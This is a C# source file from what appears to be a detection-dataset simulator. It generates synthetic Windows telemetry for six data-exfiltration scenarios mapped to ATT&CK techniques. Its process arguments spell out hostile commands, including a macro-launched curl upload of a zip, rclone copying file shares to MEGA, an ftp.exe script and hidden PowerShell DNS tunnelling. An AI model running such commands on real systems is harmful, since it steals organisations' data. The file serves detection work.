using Det0131.Datasets.Simulation.Formats;
using Det0131.Datasets.Simulation.Machines;

namespace Det0131.Datasets.Simulation.Acts;

/// <summary>Acts on Windows hosts (AN0367), after the parents, ports and sizes of the attack catalogue.</summary>
internal static class WindowsActs
{
    public static IEnumerable<ActScript> Scripts() =>
    [
        new(new Act("win-winword-curl", "AN0367", "T1048.002", "curl multipart POST", "document macro, in working hours", "pc-fin-02", "upload.filehub.test"), "pc-fin-02", [1], WinwordCurl),
        new(new Act("win-rclone-mega", "AN0367", "T1567.002", "rclone to MEGA", "late evening, data over clear HTTP", "pc-sal-03", "userstorage.mega.co.nz"), "pc-sal-03", [3], RcloneMega),
        new(new Act("win-rclone-renamed", "AN0367", "T1048.002", "rclone renamed to svhost.exe", "file server, at night", "fs01", "s3.coldstore.test"), "fs01", [4], RcloneRenamed),
        new(new Act("win-ftp-script", "AN0367", "T1048.003", "ftp.exe -s", "weekend, active mode", "pc-fin-01", "37.120.200.9"), "pc-fin-01", [5], FtpScript),
        new(new Act("win-dns-txt", "AN0367", "T1048.003", "DNS TXT exfiltration by PowerShell", "through the site's resolver", "pc-mgt-01", "telemetry-cdn.test"), "pc-mgt-01", [2], DnsTxt),
        new(new Act("win-smtp-stealer", "AN0367", "T1048.003", "SMTP submission by an unknown program", "small mails, every twenty minutes", "pc-hr-01", "mail.logistics-hub.test"), "pc-hr-01", [1], SmtpStealer),
    ];

    private static void WinwordCurl(ActStage stage)
    {
        var pc = stage.Windows;
        var at = stage.At(14.34);
        var word = pc.Start(at, "WINWORD.EXE", @"/n ""C:\Users\jonas.brandt\Downloads\Mahnung_4471.docm""", pc.Resident("OUTLOOK.EXE", pc.Person));
        pc.CreateFile(word, at + 8_000_000, @"C:\Users\jonas.brandt\AppData\Local\Temp\~d41f.zip");
        var shell = pc.Start(at + 9_000_000, "cmd.exe", @"/c curl.exe -k -s -F file=@%TEMP%\~d41f.zip https://upload.filehub.test/u", word);
        var curl = pc.Start(at + 9_400_000, "curl.exe", @"-k -s -F file=@C:\Users\jonas.brandt\AppData\Local\Temp\~d41f.zip https://upload.filehub.test/u", shell);
        pc.ResolveAndConnect(curl, at + 10_000_000, new Peer("176.123.5.40", 443, "ssl", "upload.filehub.test"), Transfer.Upload(18_400_000, 2));
    }

    private static void RcloneMega(ActStage stage)
    {
        var pc = stage.Windows;
        var at = stage.At(22.7);
        var shell = pc.Start(at, "cmd.exe", "", pc.Resident("explorer.exe", pc.Person));
        var rclone = pc.Start(at + 30_000_000, "rclone.exe", @"copy --max-age 2y ""\\fs01\Vertrieb"" Mega:DATA -q --ignore-existing --auto-confirm --multi-thread-streams 7 --transfers 7 --bwlimit 10M", shell);
        pc.CreateFile(rclone, at + 31_000_000, @"C:\Users\david.weber\AppData\Roaming\rclone\rclone.conf");
        pc.ResolveAndConnect(rclone, at + 32_000_000, new Peer("66.203.125.11", 443, "ssl", "g.api.mega.co.nz"), new Transfer(48_000, 210_000, 5400));
        for (var i = 0; i < 21; i++)
        {
            var bytes = stage.Random.Bytes(420e6, 0.5);
            var peer = new Peer($"66.203.127.{20 + (i % 5)}", 80, "http", $"gfs270n{300 + (i % 5)}.userstorage.mega.co.nz");
            pc.ResolveAndConnect(rclone, at + (i / 7 * 900_000_000L) + 60_000_000, peer, Transfer.Upload(bytes, 1.4), new HttpCall("POST", "/ul/" + stage.Random.Hex(24), "rclone/v1.71.0", bytes, 36));
        }
    }

    private static void RcloneRenamed(ActStage stage)
    {
        var server = stage.Windows;
        var at = stage.At(3.1);
        var shell = server.Start(at, "cmd.exe", @"/c C:\ProgramData\Intel\run.bat", server.Resident("svchost.exe"), WindowsMachine.SystemUser);
        var program = server.Start(at + 2_000_000, "svhost.exe", @"copy D:\Shares remote:vault --config C:\ProgramData\Intel\c.conf --transfers 4 -q", shell, WindowsMachine.SystemUser);
        for (var i = 0; i < 12; i++)
        {
            server.ResolveAndConnect(program, at + 4_000_000 + (i / 4 * 600_000_000L), new Peer("188.68.220.15", 443, "ssl", "s3.coldstore.test"), Transfer.Upload(stage.Random.Bytes(1.2e9, 0.3), 2.5));
        }
    }

    private static void FtpScript(ActStage stage)
    {
        var pc = stage.Windows;
        var at = stage.At(4.2);
        var shell = pc.Start(at, "cmd.exe", @"/c ftp.exe -v -s:C:\Users\Public\ftp.txt", pc.Resident("svchost.exe"), WindowsMachine.SystemUser);
        var ftp = pc.Start(at + 500_000, "ftp.exe", @"-v -s:C:\Users\Public\ftp.txt", shell, WindowsMachine.SystemUser);
        pc.Connect(ftp, at + 900_000, new Peer("37.120.200.9", 21, "ftp"), new Transfer(310, 1_150, 74));

        // Active mode: the server opens the data connection from port 20, and the victim sends as responder.
        pc.Accept("37.120.200.9", 20, at + 4_000_000, 50_211, "ftp-data", new Transfer(0, 32_300_000, 66));
    }

    private static void DnsTxt(ActStage stage)
    {
        var pc = stage.Windows;
        var at = stage.At(10.6);
        var powershell = pc.Start(at, "powershell.exe", @"-nop -w hidden -ep bypass -f C:\Users\robert.stein\AppData\Local\Temp\sync.ps1", pc.Resident("WINWORD.EXE", pc.Person));
        pc.Tunnel(powershell, at + 900_000, new DnsExchange("init.MFRGGZDFMZTWQ2LK.base64.t.telemetry-cdn.test", "TXT", "TXT 2 OK"));
        var time = at + 1_500_000;
        var number = 0;

        // 224 characters carry about 168 bytes; the sequence number is the first label. Half a second between questions.
        foreach (var name in stage.TunnelNames(360, TunnelAlphabet.Base64Url, 212, 63, "t.telemetry-cdn.test"))
        {
            pc.Tunnel(powershell, time, new DnsExchange($"{number}.{name}", "TXT", "TXT 2 OK"));
            number++;
            time += 500_000 + stage.Random.Between(0, 60_000);
        }
    }

    private static void SmtpStealer(ActStage stage)
    {
        var pc = stage.Windows;
        var program = pc.Start(stage.At(9.2), "invoice_viewer.exe", "", pc.Resident("explorer.exe", pc.Person));
        for (var i = 0; i < 14; i++)
        {
            var at = stage.At(9.25 + (i / 3.0)) + stage.Random.Between(0, 20_000_000);
            pc.ResolveAndConnect(program, at, new Peer("41.77.117.236", 587, "smtp", "mail.logistics-hub.test"), new Transfer(stage.Random.Bytes(62_000, 0.6), 2_100, 4));
        }
    }
}
